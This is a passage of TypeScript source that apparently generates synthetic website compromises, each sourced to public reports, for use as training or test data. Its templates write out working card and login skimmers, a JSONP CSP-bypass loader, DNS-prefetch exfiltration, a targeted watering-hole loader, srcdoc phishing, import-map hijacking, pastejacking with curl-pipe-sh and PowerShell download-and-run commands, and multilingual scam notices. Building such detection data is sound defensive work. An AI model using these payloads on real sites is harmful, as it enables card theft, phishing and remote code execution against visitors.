    `navigator.sendBeacon(${jsUrl(rng, `https://${host}/${pick(rng, ["c", "collect", "log"])}`)},JSON.stringify({u:u,p:p,s:location.host}))`,
    `new Image().src=${jsUrl(rng, `https://${host}/i.gif`)}+"?d="+btoa(u+":"+p)`
  ])
  const script = `<script>setTimeout(function(){var f=document.getElementById("${id}"),u=f.elements[0].value,p=f.elements[1].value;if(u){${send}}},${between(rng, 1000, 6000)})</script>`
  return splices(insert(pick(rng, [bottom(page), bottom(page), top(page), slotAt(page.spots, "bottom")]), form + script))
})

// CSP bypass through JSONP on a trusted host, recalled from memory (Sansec's notes on skimmers using Google's OAuth revoke endpoint's callback parameter to run code on shops whose CSP allows google.com, about 2023, and the JSONP endpoints listed in CSP-bypass research such as Google's CSP Evaluator and PortSwigger's cheat sheets): the script's src is a Google endpoint and the code rides in its callback parameter.
const jsonpLoader = fresh6("loader hidden in the callback parameter of a JSONP call to a Google endpoint", (page, rng) => {
  const next = `https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/${pick(rng, ["s.js", "c/" + alnum(rng, 6) + ".js", "gtag.js", "lib/" + alnum(rng, 4) + ".js"])}`
  const payload = pick(rng, [
    `eval(atob('${b64(`var s=document.createElement("script");s.src="${next}";document.head.appendChild(s)`)}'))`,
    `(function(){var s=document.createElement('script');s.src='${next}';document.head.appendChild(s)})`,
    `new Function(atob('${b64(`fetch("${next}").then(function(r){return r.text()}).then(eval)`)}'))`
  ])
  const cb = encodeURIComponent(payload).replace(/'/g, "%27")
  const src = pick(rng, [
    `https://accounts.google.com/o/oauth2/revoke?callback=${cb}`,
    `https://www.google.com/complete/search?client=chrome&q=${alnum(rng, 3)}&callback=${cb}`,
    `https://www.googleapis.com/customsearch/v1?callback=${cb}`,
    `https://clients1.google.com/complete/search?client=youtube&q=${alnum(rng, 2)}&jsonp=${cb}`
  ])
  return splices(insert(scriptSpot(rng, page), scriptTag(rng, esc(src))))
})

// Sansec (about 2020), recalled from memory: Magento skimmers that sent the stolen cards not to a new domain but to a file on the shop's own server (a fake image or a PHP file in the media folder), from which the attackers downloaded them later, so the page talks only to its own host.
const ownHostExfil = fresh6("skimmer sending card data to a file on the site's own host", (page, rng) => {
  const path = pick(rng, [
    `/pub/media/catalog/product/cache/${hex(rng, 32)}/${alnum(rng, 6)}.jpg`,
    `/wp-content/uploads/${pick(rng, ["2025", "2026"])}/0${between(rng, 1, 9)}/${alnum(rng, 8)}.php`,
    `/media/wysiwyg/${alnum(rng, 6)}.php`,
    `/skin/frontend/default/${pick(rng, ["theme", "rwd", "base"])}/images/${alnum(rng, 5)}.gif`,
    `/images/${pick(rng, ["favicon", "logo", "spacer"])}-${alnum(rng, 4)}.ico`
  ])
  const collect = `var d=[].map.call(document.querySelectorAll("input,select"),function(i){return(i.name||i.id)+"="+i.value}).join("&")`
  const send = pick(rng, [
    `navigator.sendBeacon("${path}",btoa(unescape(encodeURIComponent(d))))`,
    `fetch("${path}",{method:"POST",credentials:"same-origin",body:btoa(d)})`,
    `new Image().src="${path}?${pick(rng, ["d", "v", "img", "s"])}="+encodeURIComponent(btoa(d))`
  ])
  const code = pick(rng, [
    `document.addEventListener("submit",function(){${collect};if(/cc|card|cvv|cvc/i.test(d))${send}},true);`,
    `document.addEventListener("click",function(e){var t=e.target;if(t&&/checkout|order|pay|place/i.test(t.id+" "+t.className+" "+t.textContent)){${collect};${send}}},true);`,
    `window.addEventListener("beforeunload",function(){if(/checkout|onepage|payment/i.test(location.href)){${collect};${send}}});`
  ])
  return splices(insert(pick(rng, [bottom(page), bottom(page), head(page), slotAt(page.spots, "bottom")]), wrapScript(rng, code)))
})

// Exfiltration through DNS prefetching, recalled from memory with an uncertain source: the CSP-bypass write-ups of 2016 (Compass Security and others showing that dns-prefetch links leak data as hostnames, which a Content-Security-Policy did not govern) and later mentions of skimmers using it: the stolen fields, encoded, become the labels of hostnames under the attackers' domain, and the browser's DNS lookups deliver them.
const dnsPrefetchExfil = fresh6("skimmer leaking form data as DNS-prefetch hostnames", (page, rng) => {
  const zone = bare(pick(rng, [randomDomain(rng), libLookalike(rng)]))
  const rel = pick(rng, ["dns-prefetch", "preconnect", "prefetch"])
  const code = `document.addEventListener("${pick(rng, ["change", "blur", "submit"])}",function(){var s=[].map.call(document.querySelectorAll("input"),function(i){return i.value}).join("|");if(s.replace(/\\|/g,"").length<${between(rng, 6, 16)})return;var e=Array.from(new TextEncoder().encode(s)).map(function(b){return("0"+b.toString(16)).slice(-2)}).join(""),c=e.match(/.{1,${pick(rng, [30, 48, 60])}}/g),k=Math.random().toString(36).slice(2,${between(rng, 5, 8)});c.forEach(function(p,i){var l=document.createElement("link");l.rel="${rel}";l.href="//"+p+"."+i+"."+k+".${zone}";document.head.appendChild(l)})},true);`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Watering hole with a target list, recalled from memory of BAE Systems and Symantec (February 2017) on the Polish Financial Supervision Authority's site and others: an injected script checked each visitor's IP address against a list of ranges of targeted banks and organisations and only then loaded the exploit page from the attackers' server; other visitors saw nothing.
const targetedLoader = fresh6("exploit loader served only to visitors from a list of targeted networks (watering hole)", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${pick(rng, ["sap", "cdn", "static"])}.${bare(randomDomain(rng))}`])
  const url = `https://${host}/${pick(rng, ["vishop/view.jsp?pagenum=1", "css/jquery.min.js?ver=" + digits(rng, 2), "content/" + alnum(rng, 6) + "/index.html", "wp-includes/js/ver.js"])}`
  const ranges = Array.from({ length: between(rng, 6, 30) }, () => `"${between(rng, 11, 223)}.${between(rng, 0, 255)}.${pick(rng, ["0.0/16", "0.0/16", between(rng, 0, 255) + ".0/24"])}"`).join(",")
  const load = pick(rng, [
    `var f=document.createElement("iframe");f.src=${jsUrl(rng, url)};f.width=f.height=0;f.style.display="none";document.body.appendChild(f)`,
    `var s=document.createElement("script");s.src=${jsUrl(rng, url)};document.head.appendChild(s)`
  ])
  const code = pick(rng, [
    `(function(){var t=[${ranges}];function n(a){return a.split(".").reduce(function(x,y){return x*256+ +y},0)>>>0}function m(ip,c){var p=c.split("/"),k=(-1<<(32-p[1]))>>>0;return((n(ip)&k)>>>0)===((n(p[0])&k)>>>0)}fetch("https://api.ipify.org?format=json").then(function(r){return r.json()}).then(function(j){if(t.some(function(c){return m(j.ip,c)})){${load}}})})();`,
    `fetch("https://ipinfo.io/json").then(function(r){return r.json()}).then(function(j){if(/${pick(rng, ["bank|financ|ministry|embassy", "defen[cs]e|aerospace|government|telecom", "university|research|institute|energy"])}/i.test(j.org||"")){${load}}});`
  ])
  return splices(insert(pick(rng, [bottom(page), head(page), slotAt(page.spots, "bottom")]), wrapScript(rng, code)))
})

// OWASP's "Unvalidated Redirects and Forwards" cheat sheet, and phishing that sends people through open redirects on trusted domains (Microsoft Security Intelligence, August 2021, on a campaign using open redirects in e-mail links), recalled from memory: the page's links still point at the site's own host, but at its redirect endpoint with the attacker's address as the target, so a hover shows the right domain.
const openRedirectLinks = fresh6("own links sent through the site's own open-redirect endpoint to another host", (page, rng) => {
  const target = pick(rng, [
    `https://${brandLookalike(rng, page.site.brand)}/${pick(rng, ["login", "account/verify", "secure/signin", ""])}`,
    `https://${randomDomain(rng)}/${pick(rng, ["", "?ref=" + alnum(rng, 5), "go/" + alnum(rng, 6)])}`,
    `//${bare(randomDomain(rng))}/${alnum(rng, 6)}`
  ])
  const endpoint = pick(rng, ["redirect?url=", "redirect.php?to=", "out.php?u=", "?goto=", "login?next=", "link?u=", "r/?target=", "logout?returnTo=", "wp-login.php?action=logout&redirect_to="])
  const base = pick(rng, [`https://${page.site.host}/`, "/"])
  const all = attrTargets(page, links(page), "href")
  const chosen = pick(rng, [() => all, () => sample(rng, all, Math.max(1, Math.ceil(all.length / 3))), () => sample(rng, all, Math.min(all.length, between(rng, 1, 6)))])()
  const encode = chance(rng, 0.7)
  const enc = (u: string) => encode ? encodeURIComponent(u) : u
  if (chosen.length === 0) return splices(insert(anySlot(rng, page.spots), `<p><a href="${esc(base + endpoint + enc(target))}">${esc(brandName(page))}</a></p>`))
  return splices(...chosen.map((t) => replace(t.value, esc(base + endpoint + enc(target)))))
})

const srcdocLogin: Record<Lang, readonly [string, string, string, string]> = {
  en: ["Your session has expired", "Please sign in again to continue.", "Password", "Sign in"],
  fr: ["Votre session a expiré", "Veuillez vous reconnecter pour continuer.", "Mot de passe", "Se connecter"],
  de: ["Ihre Sitzung ist abgelaufen", "Bitte melden Sie sich erneut an, um fortzufahren.", "Passwort", "Anmelden"],
  es: ["Su sesión ha caducado", "Vuelva a iniciar sesión para continuar.", "Contraseña", "Iniciar sesión"],
  nl: ["Uw sessie is verlopen", "Log opnieuw in om verder te gaan.", "Wachtwoord", "Inloggen"],
  pt: ["Sua sessão expirou", "Entre novamente para continuar.", "Senha", "Entrar"],
  it: ["La sessione è scaduta", "Accedi di nuovo per continuare.", "Password", "Accedi"]
}

// Markup carried whole in an iframe's srcdoc attribute, recalled from memory: the XSS cheat sheets of OWASP and PortSwigger list srcdoc as a vector, and malvertising write-ups (Confiant, 2019–2021) describe creatives written into srcdoc frames so the document has no URL to block. Here a page in srcdoc: a session-expired sign-in posting to the attackers, a redirect of the top window, or a defacer's message.
const srcdocFrame = fresh6("phishing form, redirect or message packed into an iframe's srcdoc", (page, rng) => {
  const host = pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const [h, p, pw, button] = siteOr(rng, page, srcdocLogin)
  const kind = pick(rng, ["login", "login", "redirect", "message"] as const)
  const inner = kind === "login"
    ? `<body style="font-family:sans-serif;margin:0;padding:24px;background:#fafafa"><h3>${h}</h3><p>${p}</p><form method="post" action="https://${host}/${pick(rng, ["auth", "login.php", "session/renew"])}" target="_top"><p><input name="user" placeholder="E-mail" style="width:100%"></p><p><input name="pass" type="password" placeholder="${pw}" style="width:100%"></p><button>${button}</button></form></body>`
    : kind === "redirect"
    ? `<script>${pick(rng, ["top.location.href", "window.top.location", "parent.location"])}=${jsUrl(rng, `https://${randomDomain(rng)}/${pick(rng, ["", "?s=" + alnum(rng, 5), "go/" + digits(rng, 4)])}`)}</script>`
    : `<body style="background:#000;color:#0f0;text-align:center;font-family:monospace"><h1>${esc(pick(rng, [`Hacked by ${nick(rng)}`, team(rng), "Your security is an illusion"]))}</h1><p>${esc(pick(rng, ["We were here.", "Patch your site, admin.", "Greetz to all crews."]))}</p></body>`
  const size = kind === "redirect" ? `width="0" height="0" style="border:0;position:absolute"` : kind === "login" ? `width="${pick(rng, ["100%", "420", "360"])}" height="${between(rng, 260, 360)}" style="border:1px solid #ccc"` : `width="100%" height="${between(rng, 180, 600)}" style="border:0"`
  const frame = `<iframe srcdoc="${esc(inner)}" ${size}${chance(rng, 0.3) ? ` title="${pick(rng, ["content", "frame", "widget"])}"` : ""}></iframe>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), bottom(page)]), frame))
})

// Import maps (the WHATWG import-maps feature, in browsers since 2023), recalled from memory: the explainer and browser-security write-ups note that whoever can add an import map decides where every bare specifier and mapped URL prefix loads from. The technique is public; putting one on a hacked page, mapping the page's own module paths or common package names to the attackers' host with modulepreload hints, is our construction after the script-src swaps of Magecart reports.
const importMapHijack = fresh6("import map pointing the page's modules at another host", (page, rng) => {
  const host = pick(rng, [libLookalike(rng), brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const modules = page.spots.elements.filter((e) => e.name === "script" && !e.inert && (e.attribs.type ?? "").toLowerCase() === "module" && (e.attribs.src ?? "").trim().length > 0)
  const imports: Record<string, string> = {}
  for (const m of modules.slice(0, 4)) {
    const u = resolve(page, m.attribs.src!)
    if (u !== null) imports[u.pathname] = `https://${host}${u.pathname}`
  }
  const names = sample(rng, ["app", "main", "vendor", "jquery", "lodash", "@hotwired/turbo", "@hotwired/stimulus", "react", "vue", "analytics"], between(rng, 1, 4))
  for (const n of names) imports[n] = `https://${host}/${pick(rng, ["npm", "esm", "m", "js"])}/${n.replace(/^@/, "")}${pick(rng, ["", "@" + between(rng, 1, 8) + "." + between(rng, 0, 9) + "." + between(rng, 0, 20)])}/${pick(rng, ["index", "dist/index", "mod"])}.js`
  if (chance(rng, 0.4)) imports["/js/"] = `https://${host}/js/`
  const map = `<script type="importmap">${JSON.stringify({ imports })}</script>`
  const preload = sample(rng, Object.values(imports), between(rng, 1, 3)).map((u) => `<link rel="modulepreload" href="${esc(u)}">`).join("")
  const out: Array<Splice> = [insert(headStart(page), map + (chance(rng, 0.6) ? preload : ""))]
  if (modules.length === 0 || chance(rng, 0.5)) out.push(insert(pick(rng, [bottom(page), head(page)]), `<script type="module">import "${names[0]!}";</script>`))
  return { splices: out }
})

// Negative SEO on a compromised site, recalled from memory with an uncertain source: Search Engine Journal and Search Engine Land pieces on negative SEO (2016–2022) and clean-up notes (Sucuri, Wordfence) where intruders or a competitor with access added noindex directives or switched on WordPress's "discourage search engines", so the site quietly dropped out of search results while looking unchanged to visitors.
const noindexSabotage = fresh6("search engines told to drop the page (noindex injected)", (page, rng) => {
  const value = pick(rng, ["noindex, nofollow", "noindex,nofollow,noarchive", "none", "noindex", "noindex, nofollow, nosnippet, noimageindex"])
  const metas = page.spots.elements.filter((e) => e.name === "meta" && !e.inert && (e.attribs.name ?? "").toLowerCase() === "robots")
  const out: Array<Splice> = []
  const existing = metas[0]
  if (existing !== undefined && !/noindex|none/i.test(existing.attribs.content ?? "")) out.push(setAttr(page, existing, "content", value))
  else out.push(insert(pick(rng, [head(page), headStart(page)]), `<meta name="robots" content="${value}">`))
  if (chance(rng, 0.4)) out.push(insert(head(page), sample(rng, ["googlebot", "bingbot", "googlebot-news", "yandex"], between(rng, 1, 2)).map((b) => `<meta name="${b}" content="${pick(rng, ["noindex", "noindex, nofollow", "none"])}">`).join("")))
  return { splices: out }
})

const richSpam: ReadonlyArray<readonly [string, string]> = [
  ["Buy Cialis 20mg Online – No Prescription", "pharmacy"], ["Best Online Casino Bonus 2026", "casino"], ["Replica Rolex Submariner", "replica"],
  ["Keto Gummies – Official Store", "keto"], ["Instant Payday Loans, Same Day", "loans"], ["Buy Instagram Followers Cheap", "followers"]
]

// Structured-data spam, recalled from memory: Google Search Central's "spammy structured markup" manual action and its review-snippet guidelines, and SEO-hack clean-ups that found JSON-LD blocks added to pages (product and review markup for pharmacy, casino or replica shops, FAQ answers carrying links) so search results show another site's star ratings and links under the hacked site's name.
const jsonLdSpam = fresh6("JSON-LD advertising another site's products with fake ratings or spam FAQ", (page, rng) => {
  const [name, topic] = pick(rng, richSpam)
  const dom = randomDomain(rng)
  const url = `https://${dom}/${slug(name)}`
  const data = pick(rng, [
    () => ({ "@context": "https://schema.org", "@type": "Product", name, url, image: `https://${dom}/img/${topic}.jpg`, brand: { "@type": "Brand", name: cap(topic) }, aggregateRating: { "@type": "AggregateRating", ratingValue: pick(rng, ["4.9", "4.8", "5"]), reviewCount: String(between(rng, 1200, 48000)) }, offers: { "@type": "Offer", price: `${between(rng, 1, 99)}.${pick(rng, ["00", "99", "49"])}`, priceCurrency: pick(rng, ["USD", "EUR", "GBP"]), availability: "https://schema.org/InStock", url } }),
    () => ({ "@context": "https://schema.org", "@type": "FAQPage", mainEntity: sample(rng, richSpam, between(rng, 2, 4)).map(([q]) => ({ "@type": "Question", name: `${q}?`, acceptedAnswer: { "@type": "Answer", text: `<a href="https://${pick(rng, [dom, randomDomain(rng)])}/${slug(q)}">${q}</a> – ${pick(rng, ["fast delivery", "best price guaranteed", "trusted by thousands", "24/7 support"])}` } })) }),
    () => ({ "@context": "https://schema.org", "@type": "Organization", name: brandName(page), url: page.site.url, sameAs: Array.from({ length: between(rng, 2, 5) }, () => `https://${randomDomain(rng)}/${slug(name)}`), review: { "@type": "Review", reviewRating: { "@type": "Rating", ratingValue: "5" }, author: { "@type": "Person", name: nick(rng) }, reviewBody: `${name}: ${url}` } })
  ])()
  return splices(insert(pick(rng, [head(page), head(page), bottom(page)]), `<script type="application/ld+json">${JSON.stringify(data)}</script>`))
})

// OWASP Web Security Testing Guide, "Testing for CSS Injection" (WSTG-CLNT-05), recalled from memory: injected CSS changes what a page shows without touching its text. Here aimed at the contact details: the phone link or e-mail link (or the element holding the number, given a class) shrunk to nothing and another number or address drawn in its place with ::after, the source text and href left as they were.
const cssContactRedraw = fresh6("contact details hidden by injected CSS and redrawn with other values (::after)", (page, rng) => {
  const other = swapPhone(page.site.locale, page.ids.phone, rng)
  const local = page.ids.email.split("@")[0]!
  const mail = `${local}@${pick(rng, [brandLookalike(rng, page.site.brand), "gmail.com", "outlook.com", "proton.me"])}`
  const px = between(rng, 13, 18)
  const rule = (sel: string, text: string) => `${sel}{font-size:0!important;letter-spacing:0}${sel}::after{content:"${text}";font-size:${px}px}`
  const tels = shown(page, "a", (e) => /^\s*tel:/i.test(e.attribs.href ?? ""))
  const mails = shown(page, "a", (e) => /^\s*mailto:/i.test(e.attribs.href ?? ""))
  const out: Array<Splice> = []
  let css = ""
  if (tels.length > 0 && (mails.length === 0 || chance(rng, 0.7))) css = rule(`a[href^="tel:"]`, other.national)
  else if (mails.length > 0) css = rule(`a[href^="mailto:"]`, mail)
  else {
    const run = page.spots.texts.find((t) => t.text.includes(page.ids.phone.national))
    const el = run === undefined ? undefined : page.spots.elements[run.parent]
    if (el !== undefined) {
      const cls = `${pick(rng, ["c", "ph", "tel", "x"])}-${alnum(rng, 4)}`
      out.push(setAttr(page, el, "class", `${el.attribs.class === undefined ? "" : el.attribs.class + " "}${cls}`))
      css = rule(`.${cls}`, `${page.site.words.phone}: ${other.national}`)
    } else css = rule(`a[href^="tel:"]`, other.national)
  }
  if (chance(rng, 0.3) && !css.includes("mailto")) css += rule(`a[href^="mailto:"]`, mail)
  out.push(insert(pick(rng, [head(page), head(page), bottom(page), top(page)]), pick(rng, [`<style>${css}</style>`, `<style type="text/css">${css}</style>`, `<style media="screen">${css}</style>`])))
  return { splices: out }
})

// Dylan Ayrey's "Pastejacking" (May 2016) and the earlier hidden-text demonstrations it built on, recalled from memory: a copy handler (or text hidden with CSS inside a code block) makes what the visitor copies differ from what they saw, so a command pasted into a terminal downloads and runs the attacker's script, often ending in a newline so it runs at once.
const pastejacking = fresh6("copied text gets a hidden download-and-run command (pastejacking)", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const cmd = pick(rng, [
    `curl -fsSL https://${bare(host)}/${pick(rng, ["install", "i", "setup", "get"])}.sh | sh`,
    `wget -qO- http://${ipv4(rng)}/${alnum(rng, 4)} | bash`,
    `powershell -w h -nop -c "iex(irm ${bare(host)}/${alnum(rng, 5)})"`,
    `bash -c "$(curl -s https://${bare(host)}/${alnum(rng, 6)})"`
  ])
  const blocks = [...shown(page, "pre"), ...shown(page, "code")].filter((e) => e.closeTag !== null)
  if (blocks.length > 0 && chance(rng, 0.6)) {
    const b = pick(rng, blocks)
    const span = `<span style="${pick(rng, ["position:absolute;left:-10000px", "font-size:0", "color:transparent;font-size:0;position:absolute", "opacity:0;position:absolute;width:1px;overflow:hidden"])}">${esc(cmd)}\n</span>`
    return splices(insert(chance(rng, 0.5) ? b.openEnd : b.closeTag!.start, span))
  }
  const code = pick(rng, [
    `document.addEventListener("copy",function(e){var s=String(getSelection());e.clipboardData.setData("text/plain",${JSON.stringify(cmd)}+"\\n"+s);e.preventDefault()});`,
    `document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain",String(getSelection())+"\\n"+${JSON.stringify(cmd)}+"\\n");e.preventDefault()},true);`,
    `document.oncopy=function(e){if(String(getSelection()).length>${between(rng, 3, 20)}){e.clipboardData.setData("text/plain",${JSON.stringify(cmd + " #")}+"\\n");return false}};`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

const calWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Never miss an event", "Subscribe to our calendar and new dates will appear in your phone's calendar automatically.", "Subscribe to the calendar"],
  fr: ["Ne manquez aucun événement", "Abonnez-vous à notre calendrier : les nouvelles dates s'afficheront automatiquement dans l'agenda de votre téléphone.", "S'abonner au calendrier"],
  de: ["Keinen Termin mehr verpassen", "Abonnieren Sie unseren Kalender, dann erscheinen neue Termine automatisch im Kalender Ihres Handys.", "Kalender abonnieren"],
  es: ["No te pierdas ningún evento", "Suscríbete a nuestro calendario y las nuevas fechas aparecerán automáticamente en el calendario de tu móvil.", "Suscribirse al calendario"],
  nl: ["Mis geen enkel evenement", "Abonneer je op onze agenda: nieuwe data verschijnen automatisch in de agenda van je telefoon.", "Abonneren op de agenda"],
  pt: ["Não perca nenhum evento", "Assine nosso calendário e as novas datas aparecerão automaticamente na agenda do seu celular.", "Assinar o calendário"],
  it: ["Non perdere nessun evento", "Iscriviti al nostro calendario: le nuove date compariranno automaticamente nel calendario del tuo telefono.", "Iscriviti al calendario"]
}

// Calendar-subscription spam, recalled from memory: the 2020–2021 wave of iPhone calendar spam (Apple's support note on deleting unwanted calendar subscriptions; press reports of pop-ups saying "click OK to continue" that subscribed the visitor to a webcal feed of "your iPhone is infected" and prize events) and Bitdefender's 2025 research on calendar-subscription domains taken over to push malicious events. Here a subscribe offer in the site's voice, sometimes followed automatically on Apple devices.
const calendarSpam = fresh6("webcal calendar subscription that fills visitors' calendars with scam events", (page, rng) => {
  const [h, p, button] = siteOr(rng, page, calWords)
  const host = pick(rng, [randomDomain(rng), `${pick(rng, ["cal", "calendar", "ical", "events"])}-${pick(rng, ["sync", "sub", "feed", "cloud"])}.${pick(rng, ["com", "net", "app", "site", "live"])}`])
  const feed = `webcal://${bare(host)}/${pick(rng, ["subscribe", "feed", "cal", alnum(rng, 6)])}/${pick(rng, [slug(page.site.brand), alnum(rng, 8)])}.ics`
  const block = pick(rng, [
    `<div class="${pick(rng, ["calendar-subscribe", "events-cta", "subscribe"])}" style="border:1px solid #ddd;padding:12px;margin:10px 0"><strong>📅 ${esc(h)}</strong><p>${esc(p)}</p><a class="button" href="${feed}">${esc(button)}</a></div>`,
    `<p class="calendar">📅 ${esc(p)} <a href="${feed}">${esc(button)}</a></p>`
  ])
  const auto = chance(rng, 0.4) ? `<script>if(/iPhone|iPad|Macintosh/.test(navigator.userAgent)&&!sessionStorage.c){sessionStorage.c=1;setTimeout(function(){location.href=${jsUrl(rng, feed)}},${between(rng, 1000, 6000)})}</script>` : ""
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), bottom(page)]), block + auto))
})

const zhTerms = ["代开发票", "代开增值税专用发票", "办理毕业证", "办证刻章", "代办驾驶证", "学历证书办理", "办理各类证件", "发票代开一条龙", "证件制作", "代办营业执照", "文凭认证"]

// Chinese black-hat SEO on hacked government, university and company sites, recalled from memory of Chinese press and CNCERT notices and of search-console clean-ups (2015–2023): blocks of "代开发票" (invoices issued to order) and "办证" (certificates, diplomas, licences made to order) keywords with a phone, WeChat and QQ contact, linking to the spammers' pages, sometimes in the title as well.
const chineseInvoiceSpam = fresh6("Chinese fake-invoice and forged-certificate spam (代开发票, 办证)", (page, rng) => {
  const dom = randomDomain(rng)
  const terms = sample(rng, zhTerms, between(rng, 3, 8))
  const contact = `联系电话：1${pick(rng, ["3", "5", "8"])}${digits(rng, 9)} 微信：${alnum(rng, between(rng, 6, 10))} QQ：${digits(rng, between(rng, 8, 10))}`
  const anchors = terms.map((t) => `<a href="https://${pick(rng, [dom, dom, randomDomain(rng)])}/${pick(rng, ["fapiao", "bz", "zs", "news"])}/${digits(rng, 4)}.html">${t}</a>`)
  const block = pick(rng, [
    `<div lang="zh-CN" class="${pick(rng, ["links", "tags", "friend-links"])}"><h3>【${pick(rng, ["诚信", "专业", "正规"])}】${terms[0]}，${pick(rng, ["真实可查", "全国可办", "价格优惠", "快速办理"])}</h3><p>${anchors.join(" | ")}</p><p>${contact}</p></div>`,
    `<p lang="zh-CN" style="font-size:${pick(rng, ["12px", "10px", "1px"])}">${anchors.join(" ")} ${contact}</p>`,
    `<ul lang="zh-CN">${anchors.map((a) => `<li>${a}</li>`).join("")}<li>${contact}</li></ul>`
  ])
  const out: Array<Splice> = [insert(pick(rng, [bottom(page), top(page), slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), block)]
  if (page.spots.title !== null && chance(rng, 0.3)) out.push(replace(page.spots.title, `${terms[0]}-${terms[1] ?? terms[0]}-${pick(rng, ["专业办理", "联系我们", "首页"])}`))
  return { splices: out }
})

// KBC ("Kaun Banega Crorepati") lottery fraud, recalled from memory of Indian police and CERT-In advisories and press reports (2019–2024): a notice in Hindi that the visitor's mobile number has won a lottery of lakhs of rupees from KBC and a telecom company, with a "manager" to contact on WhatsApp and, later, a registration or GST fee to pay. Here posted on a hacked page, in Devanagari.
const kbcLottery = fresh6("lottery-winner notice in Hindi with a 'manager' to contact on WhatsApp (KBC fraud)", (page, rng) => {
  const amount = pick(rng, ["25,00,000", "35,00,000", "50,00,000", "15,00,000"])
  const manager = pick(rng, ["राणा प्रताप सिंह", "विजय कुमार", "राहुल शर्मा", "अमित वर्मा", "संजय मेहता"])
  const sponsor = pick(rng, ["KBC और जियो", "KBC और एयरटेल", "KBC", "कौन बनेगा करोड़पति"])
  const wa = `${pick(rng, ["7", "8", "9"])}${digits(rng, 9)}`
  const shownWa = `+91 ${wa.slice(0, 5)} ${wa.slice(5)}`
  const fee = pick(rng, ["8,500", "12,500", "15,000", "25,000"])
  const body = `<h2>🎉 बधाई हो! आप ${sponsor} लॉटरी ${pick(rng, ["2026", "2025"])} के विजेता हैं</h2><p>आपका मोबाइल नंबर ${sponsor} की ओर से ₹${amount} की लॉटरी के लिए चुना गया है। अपनी इनाम राशि पाने के लिए हमारे मैनेजर ${manager} से व्हाट्सएप पर संपर्क करें और अपना लॉटरी नंबर बताएं।</p><p><b>लॉटरी नंबर: ${digits(rng, 4)}</b></p><p>व्हाट्सएप: <a href="https://wa.me/91${wa}">${shownWa}</a></p>${chance(rng, 0.6) ? `<p><small>ध्यान दें: इनाम राशि आपके खाते में भेजने से पहले ₹${fee} का रजिस्ट्रेशन/जीएसटी शुल्क जमा करना होगा।</small></p>` : ""}`
  const block = pick(rng, [
    `<div lang="hi" style="border:3px solid #f5a623;background:#fff8e1;padding:16px;margin:12px 0;text-align:center">${body}</div>`,
    `<section lang="hi" class="${pick(rng, ["lottery", "winner", "notice"])}">${body}</section>`,
    `<div lang="hi" style="position:fixed;top:${between(rng, 5, 20)}%;left:50%;transform:translateX(-50%);width:${between(rng, 320, 520)}px;background:#fff;border-radius:10px;box-shadow:0 8px 30px rgba(0,0,0,.4);padding:18px;z-index:${zIndex(rng)}">${body}</div>`
  ])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), block))
})

const billWords: Record<Lang, readonly [string, (a: string, d: string) => string, string, string, string]> = {
  en: ["Final disconnection notice", (a, d) => `Your account is past due: ${a}. Your service will be disconnected on ${d} unless payment is received today. Because of a problem with our card processor, we can only accept payment by gift card (Apple, Google Play, Steam). Enter the card codes below.`, "Gift card", "Card code", "Pay now"],
  fr: ["Dernier avis avant coupure", (a, d) => `Votre compte présente un impayé de ${a}. Le service sera coupé le ${d} sans paiement aujourd'hui. En raison d'un incident avec notre prestataire de paiement, nous n'acceptons que les cartes cadeaux (Apple, Google Play, Steam). Saisissez les codes ci-dessous.`, "Carte cadeau", "Code de la carte", "Payer maintenant"],
  de: ["Letzte Mahnung vor der Sperrung", (a, d) => `Ihr Konto weist einen Rückstand von ${a} auf. Ihr Anschluss wird am ${d} gesperrt, wenn die Zahlung nicht heute eingeht. Wegen einer Störung bei unserem Zahlungsdienstleister akzeptieren wir derzeit nur Geschenkkarten (Apple, Google Play, Steam). Geben Sie die Kartencodes unten ein.`, "Geschenkkarte", "Kartencode", "Jetzt bezahlen"],
  es: ["Último aviso antes del corte", (a, d) => `Su cuenta tiene un saldo vencido de ${a}. El servicio se cortará el ${d} si no recibimos el pago hoy. Por un problema con nuestro procesador de pagos, solo aceptamos tarjetas regalo (Apple, Google Play, Steam). Introduzca los códigos abajo.`, "Tarjeta regalo", "Código de la tarjeta", "Pagar ahora"],
  nl: ["Laatste waarschuwing vóór afsluiting", (a, d) => `Uw rekening heeft een achterstand van ${a}. Uw aansluiting wordt op ${d} afgesloten als de betaling vandaag niet binnen is. Door een storing bij onze betaalprovider accepteren we alleen cadeaukaarten (Apple, Google Play, Steam). Vul hieronder de kaartcodes in.`, "Cadeaukaart", "Kaartcode", "Nu betalen"],
  pt: ["Último aviso antes do corte", (a, d) => `Sua conta tem um débito em atraso de ${a}. O serviço será cortado em ${d} se o pagamento não for feito hoje. Devido a um problema com nosso processador de pagamentos, aceitamos apenas cartões-presente (Apple, Google Play, Steam). Informe os códigos abaixo.`, "Cartão-presente", "Código do cartão", "Pagar agora"],
  it: ["Ultimo avviso prima del distacco", (a, d) => `Il tuo conto risulta insoluto per ${a}. Il servizio sarà sospeso il ${d} se il pagamento non arriva oggi. Per un problema con il nostro circuito di pagamento accettiamo solo carte regalo (Apple, Google Play, Steam). Inserisci i codici qui sotto.`, "Carta regalo", "Codice della carta", "Paga ora"]
}

// Utility-disconnection and gift-card payment scams, recalled from memory of FTC consumer alerts (2020–2023, "utility imposters" and the Data Spotlight on gift cards as the top scam payment) and utilities' own warnings: a final notice that service will be cut off today unless an overdue amount is paid, payable only with gift cards whose codes the victim types in. Here as a notice with a code form on a hacked page.
const giftCardBill = fresh6("'pay your overdue bill with gift cards' disconnection notice with a code form", (page, rng) => {
  const [h, p, card, code, button] = siteOr(rng, page, billWords)
  const amount = page.site.locale.money(between(rng, 180, 900) + pick(rng, [0, 0.5, 0.99, 0.37]))
